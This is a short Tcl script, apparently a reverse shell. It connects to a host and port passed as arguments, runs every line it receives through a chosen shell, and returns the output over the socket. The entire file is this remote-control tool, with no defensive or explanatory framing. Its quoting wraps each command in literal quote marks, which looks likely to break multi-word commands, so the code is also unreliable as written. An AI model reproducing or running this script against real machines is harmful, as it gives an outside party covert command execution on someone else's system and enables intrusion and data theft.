# shell.tcl HOST PORT SHELL: connect, run what arrives line by line, answer with the output.
lassign $argv host port shell
set s [socket $host $port]
fconfigure $s -buffering line
while {[gets $s line] >= 0} {
    if {[catch {exec $shell -c "\"$line\"" 2>@1} out]} { append out "\n" }
    puts $s $out
    flush $s
}
close $s
